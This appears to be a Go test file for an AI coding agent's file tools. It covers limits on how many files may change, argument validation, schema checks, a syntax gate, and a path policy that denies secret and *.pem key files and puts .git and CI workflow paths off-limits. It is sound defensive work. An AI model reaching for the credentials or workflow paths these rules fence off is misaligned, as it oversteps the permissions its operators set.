func TestMaxFiles(t *testing.T) {
	root := sampleRepo(t)
	tl := newTools(t, root, Options{Policy: policy, MaxFiles: 2})
	edit := func(path, old, new string) Result {
		return do(t, tl, StrReplace, map[string]any{"path": path, "old_str": old, "new_str": new})
	}
	if r := edit("docs/notes.txt", "beta", "BETA"); r.Outcome != OutcomeApplied {
		t.Fatal(r.Output)
	}
	if r := do(t, tl, Create, map[string]any{"path": "new.txt", "content": "x\n"}); r.Outcome != OutcomeApplied {
		t.Fatal(r.Output)
	}
	before := treeHash(t, root)
	for _, r := range []Result{
		edit("README.md", "Sample", "Example"),
		do(t, tl, Create, map[string]any{"path": "third.txt", "content": "x"}),
		do(t, tl, Delete, map[string]any{"path": "util/messy.go"}),
		do(t, tl, Insert, map[string]any{"path": "README.md", "line": 0, "text": "x"}),
	} {
		if r.Outcome != OutcomeDenied || !strings.Contains(r.Output, "at most 2") {
			t.Errorf("third file accepted: %s", r.Output)
		}
	}
	assertSameTree(t, before, root)
	// Files already changed stay editable.
	if r := edit("docs/notes.txt", "gamma", "GAMMA"); r.Outcome != OutcomeApplied {
		t.Fatal(r.Output)
	}
	// Undoing a change frees its slot.
	edit("docs/notes.txt", "BETA", "beta")
	edit("docs/notes.txt", "GAMMA", "gamma")
	if got := tl.Changed(); !reflect.DeepEqual(got, []string{"new.txt"}) {
		t.Fatalf("Changed = %v", got)
	}
	if r := edit("README.md", "Sample", "Example"); r.Outcome != OutcomeApplied {
		t.Errorf("freed slot not reusable: %s", r.Output)
	}
}

func TestArguments(t *testing.T) {
	root := sampleRepo(t)
	tl := newTools(t, root, Options{Policy: policy})
	before := treeHash(t, root)
	tests := []struct {
		name, tool, args, want string
	}{
		{"unknown tool", "bash", `{"cmd":"ls"}`, "unknown tool"},
		{"not json", View, `{"path":`, "JSON object"},
		{"array", View, `["README.md"]`, "JSON object"},
		{"unknown field", StrReplace, `{"path":"README.md","old_string":"a","new_str":"b"}`, "old_str"},
		{"missing field", StrReplace, `{"path":"README.md","old_str":"Sample"}`, `missing required argument "new_str"`},
		{"null field", Create, `{"path":"x.txt","content":null}`, `missing required argument "content"`},
		{"fractional line", Insert, `{"path":"README.md","line":1.5,"text":"x"}`, "whole number"},
		{"empty summary", Finish, `{"summary":"  "}`, "summary"},
		{"empty arguments", View, ``, `missing required argument "path"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := tl.Call(context.Background(), chat.ToolCall{Name: tt.tool, Arguments: tt.args})
			if res.Outcome != OutcomeError || !strings.HasPrefix(res.Output, "ERROR:") || !strings.Contains(res.Output, tt.want) {
				t.Errorf("got %q (%s), want ERROR with %q", res.Output, res.Outcome, tt.want)
			}
		})
	}
	assertSameTree(t, before, root)
}

func TestFinish(t *testing.T) {
	tl := newTools(t, sampleRepo(t), Options{})
	res := do(t, tl, Finish, map[string]any{"summary": "Added Shout."})
	if !res.Finished || res.Summary != "Added Shout." || res.Outcome != OutcomeOK {
		t.Errorf("finish = %+v", res)
	}
}

func TestDefinitions(t *testing.T) {
	want := map[string][]string{
		View:       {"path"},
		Search:     {"pattern"},
		StrReplace: {"path", "old_str", "new_str"},
		Insert:     {"path", "line", "text"},
		Create:     {"path", "content"},
		Delete:     {"path"},
		Finish:     {"summary"},
	}
	props := map[string][]string{
		View:   {"path", "start_line", "end_line"},
		Search: {"pattern", "path"},
	}
	defs := newTools(t, sampleRepo(t), Options{}).Definitions()
	if len(defs) != len(want) {
		t.Fatalf("%d tools, want %d", len(defs), len(want))
	}
	for _, d := range defs {
		var schema struct {
			Type       string                     `json:"type"`
			Required   []string                   `json:"required"`
			Properties map[string]json.RawMessage `json:"properties"`
			Additional *bool                      `json:"additionalProperties"`
		}
		if err := json.Unmarshal(d.Parameters, &schema); err != nil {
			t.Fatalf("%s: parameters are not JSON: %v", d.Name, err)
		}
		req, ok := want[d.Name]
		if !ok {
			t.Errorf("unexpected tool %q", d.Name)
			continue
		}
		if schema.Type != "object" || !reflect.DeepEqual(schema.Required, req) || schema.Additional == nil || *schema.Additional {
			t.Errorf("%s: schema %s", d.Name, d.Parameters)
		}
		all := props[d.Name]
		if all == nil {
			all = req
		}
		if len(schema.Properties) != len(all) {
			t.Errorf("%s: properties %v, want %v", d.Name, schema.Properties, all)
		}
		for _, p := range all {
			if _, ok := schema.Properties[p]; !ok {
				t.Errorf("%s: no property %q", d.Name, p)
			}
		}
		if d.Description == "" {
			t.Errorf("%s: no description", d.Name)
		}
	}
}

func TestNewRejects(t *testing.T) {
	for _, opts := range []Options{
		{Root: "relative/dir"},
		{Root: ""},
		{Root: filepath.Join(t.TempDir(), "missing")},
		{Root: t.TempDir(), Policy: Policy{Deny: []string{"[unclosed"}}},
	} {
		if _, err := New(opts); err == nil {
			t.Errorf("New(%+v) succeeded", opts)
		}
	}
}

func TestPolicyCheck(t *testing.T) {
	p := Policy{Allow: []string{"src/**", "README.md"}, Deny: []string{"src/secret", "**/*.pem"}, Protected: []string{"src/main.go"}}
	tests := []struct {
		path string
		want Access
	}{
		{"src/a.go", Writable},
		{"src/main.go", Protected},
		{"src/secret", Denied},
		{"src/secret/inner.txt", Denied},
		{"src/keys/a.pem", Denied},
		{"README.md", Writable},
		{"docs/x.md", ReadOnly},
		{".git", OffLimits},
		{"src/.git/HEAD", OffLimits},
		{".github/workflows", OffLimits},
		{".github/workflows/x.yml", OffLimits},
		{".github", OffLimits},
		{".github/CODEOWNERS", OffLimits},
		{".github/actions/x/action.yml", OffLimits},
		{".GitHub/actions/x/action.yml", OffLimits},
		{".github/dependabot.yml", OffLimits},
		{".Selfcode.yml", OffLimits},
		{"sub/.selfcode.yml", ReadOnly},
	}
	for _, tt := range tests {
		if got := p.Check(tt.path); got != tt.want {
			t.Errorf("Check(%q) = %d, want %d", tt.path, got, tt.want)
		}
	}
	if got := (Policy{}).Check("anything/at/all.go"); got != Writable {
		t.Errorf("empty policy: %d", got)
	}
}

// A repository can open named paths under .github to the model again
// (paths.github_opt_in); those behave as any path, under allow, deny and
// protected, and nothing else under .github opens with them — not
// workflows or actions, not another case's spelling of an opted-in path.
func TestGitHubOptIn(t *testing.T) {
	t.Parallel()
	root := sampleRepo(t)
	githubFiles(t, root)
	p := Policy{GitHub: []string{".github/ISSUE_TEMPLATE/**", ".github/dependabot.yml"}, Protected: []string{".github/dependabot.yml"}}
	for path, want := range map[string]Access{
		".github":                          ReadOnly,
		".github/ISSUE_TEMPLATE":           Writable,
		".github/ISSUE_TEMPLATE/bug.md":    Writable,
		".github/dependabot.yml":           Protected,
		".github/issue_template/bug.md":    OffLimits,
		".GitHub/ISSUE_TEMPLATE/bug.md":    OffLimits,
		".github/actions/build/action.yml": OffLimits,
		".github/workflows/ci.yml":         OffLimits,
		".github/CODEOWNERS":               OffLimits,
	} {
		if got := p.Check(path); got != want {
			t.Errorf("Check(%q) = %d, want %d", path, got, want)
		}
	}
	// An opt-in that reaches workflows or actions is invalid, and counts
	// for nothing even if a policy is built without validating it.
	for _, g := range []string{".github/workflows/**", ".github/**", ".github/*", ".github/Actions/x.yml"} {
		bad := Policy{GitHub: []string{g}}
		if bad.Validate() == nil {
			t.Errorf("opt-in %q validated", g)
		}
		for _, path := range []string{".github/workflows/ci.yml", ".github/actions/build/action.yml", ".github/Actions/x.yml"} {
			if a := bad.Check(path); a != OffLimits {
				t.Errorf("opt-in %q: Check(%q) = %d", g, path, a)
			}
		}
	}

	tl := newTools(t, root, Options{Policy: p})
	if res := do(t, tl, View, map[string]any{"path": ".github"}); res.Outcome != OutcomeOK || !strings.Contains(res.Output, "ISSUE_TEMPLATE/") ||
		!strings.Contains(res.Output, "dependabot.yml") || strings.Contains(res.Output, "workflows") || strings.Contains(res.Output, "actions") {
		t.Errorf("listing .github: %s", res.Output)
	}
	if res := do(t, tl, Create, map[string]any{"path": ".github/ISSUE_TEMPLATE/feature.md", "content": "Describe the feature.\n"}); res.Outcome != OutcomeApplied {
		t.Errorf("create an opted-in file: %s", res.Output)
	}
	if res := do(t, tl, StrReplace, map[string]any{"path": ".github/dependabot.yml", "old_str": "weekly", "new_str": "daily"}); res.Outcome != OutcomeApplied {
		t.Errorf("edit an opted-in file: %s", res.Output)
	}
	if res := do(t, tl, Delete, map[string]any{"path": ".github/dependabot.yml"}); res.Outcome != OutcomeDenied {
		t.Errorf("delete a protected opted-in file: %s", res.Output)
	}
	before := treeHash(t, root)
	for _, path := range []string{".github/actions/x/action.yml", ".github/workflows/x.yml", ".GitHub/ISSUE_TEMPLATE/x.md", ".github"} {
		if res := do(t, tl, Create, map[string]any{"path": path, "content": "x"}); res.Outcome != OutcomeDenied || !strings.HasPrefix(res.Output, "ERROR:") {
			t.Errorf("create %s with an opt-in elsewhere: %s", path, res.Output)
		}
	}
	assertSameTree(t, before, root)
	if _, err := New(Options{Root: root, Policy: Policy{GitHub: []string{".github/**"}}}); err == nil {
		t.Error("tools built with an opt-in of all of .github")
	}
}

func TestReadOnlyOutsideAllow(t *testing.T) {
	root := sampleRepo(t)
	tl := newTools(t, root, Options{Policy: Policy{Allow: []string{"util/**"}}})
	if res := do(t, tl, View, map[string]any{"path": "README.md"}); res.Outcome != OutcomeOK {
		t.Errorf("view outside allow: %s", res.Output)
	}
	before := treeHash(t, root)
	res := do(t, tl, StrReplace, map[string]any{"path": "README.md", "old_str": "Sample", "new_str": "X"})
	if res.Outcome != OutcomeDenied || !strings.Contains(res.Output, "allows") {
		t.Errorf("edit outside allow: %s", res.Output)
	}
	assertSameTree(t, before, root)
}

func TestShorten(t *testing.T) {
	long := strings.Repeat("0123456789\n", 200) // 2200 bytes
	tests := []struct {
		name string
		in   string
		max  int
	}{
		{"fits", "short", 10},
		{"exact", "0123456789", 10},
		{"lines", long, 500},
		{"tiny max", long, 20},
		{"zero", long, 0},
		{"utf8", strings.Repeat("é", 1000), 300},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Shorten(tt.in, tt.max)
			if len(got) > tt.max && len(tt.in) > tt.max {
				t.Errorf("len %d > max %d", len(got), tt.max)
			}
			if len(tt.in) <= tt.max {
				if got != tt.in {
					t.Errorf("changed fitting output: %q", got)
				}
				return
			}
			if !utf8.ValidString(got) {
				t.Errorf("invalid UTF-8: %q", got)
			}
			if tt.max > 60 {
				if !strings.HasPrefix(got, tt.in[:10]) || !strings.HasSuffix(got, tt.in[len(tt.in)-10:]) {
					t.Errorf("head or tail lost: %q", got)
				}
				if !strings.Contains(got, "bytes omitted") {
					t.Errorf("no note: %q", got)
				}
			}
		})
	}
}

// fakeSyntax "parses" .py files: every line containing "(((" is an error.
type fakeSyntax struct {
	err   error
	calls int
}

func (f *fakeSyntax) Checks(p string) bool { return strings.HasSuffix(p, ".py") }

func (f *fakeSyntax) Check(_ context.Context, p string, content []byte) ([]string, error) {
	f.calls++
	if f.err != nil {
		return nil, f.err
	}
	var errs []string
	for i, l := range strings.Split(string(content), "\n") {
		if strings.Contains(l, "(((") {
			errs = append(errs, fmt.Sprintf("%s:%d: unbalanced", p, i+1))
		}
	}
	return errs, nil
}

func TestSyntaxGate(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name    string
		start   string // app.py before; "" = absent
		tool    string
		args    map[string]any
		checker *fakeSyntax
		outcome string
		want    []string
	}{
		{"edit breaking a clean file is refused", "x = 1\ny = 2\n", StrReplace,
			map[string]any{"path": "app.py", "old_str": "y = 2", "new_str": "y = (((2"},
			&fakeSyntax{}, OutcomeSyntaxReverted, []string{"app.py:2: unbalanced", "not applied"}},
		{"new broken file is refused", "", Create,
			map[string]any{"path": "app.py", "content": "def f(((:\n"},
			&fakeSyntax{}, OutcomeSyntaxReverted, []string{"app.py:1: unbalanced"}},
		{"insert breaking a file is refused", "x = 1\n", Insert,
			map[string]any{"path": "app.py", "line": 1, "text": "print((("},
			&fakeSyntax{}, OutcomeSyntaxReverted, []string{"app.py:2: unbalanced"}},
		{"clean edit applies", "x = 1\n", StrReplace,
			map[string]any{"path": "app.py", "old_str": "x = 1", "new_str": "x = 2"},
			&fakeSyntax{}, OutcomeApplied, []string{"OK:"}},
		{"already broken file, no new errors", "a = (((\nx = 1\n", StrReplace,
			map[string]any{"path": "app.py", "old_str": "x = 1", "new_str": "x = 2"},
			&fakeSyntax{}, OutcomeApplied, []string{"OK:"}},
		{"already broken file, more errors", "a = (((\nx = 1\n", StrReplace,
			map[string]any{"path": "app.py", "old_str": "x = 1", "new_str": "x = (((2"},
			&fakeSyntax{}, OutcomeSyntaxReverted, []string{"app.py:2: unbalanced"}},
		{"checker unavailable lets the edit through", "x = 1\n", StrReplace,
			map[string]any{"path": "app.py", "old_str": "x = 1", "new_str": "x = (((1"},
			&fakeSyntax{err: errors.New("no python")}, OutcomeApplied, []string{"OK:"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			root := sampleRepo(t)
			if tt.start != "" {
				write(t, root, "app.py", tt.start)
			}
			tl := newTools(t, root, Options{Syntax: tt.checker})
			before := treeHash(t, root)
			res := do(t, tl, tt.tool, tt.args)
			if res.Outcome != tt.outcome {
				t.Fatalf("outcome = %q, want %q\n%s", res.Outcome, tt.outcome, res.Output)
			}
			for _, w := range tt.want {
				if !strings.Contains(res.Output, w) {
					t.Errorf("output lacks %q:\n%s", w, res.Output)
				}
			}
			if tt.outcome == OutcomeSyntaxReverted {
				assertSameTree(t, before, root)
			}
			if tt.checker.calls == 0 {
				t.Error("the checker was never asked")
			}
		})
	}
	// Files in languages the checker does not know never reach it.
	root := sampleRepo(t)
	f := &fakeSyntax{}
	tl := newTools(t, root, Options{Syntax: f})
	if res := do(t, tl, Create, map[string]any{"path": "notes.txt", "content": "((("}); res.Outcome != OutcomeApplied || f.calls != 0 {
		t.Errorf("txt: outcome %q, %d checks", res.Outcome, f.calls)
	}
}
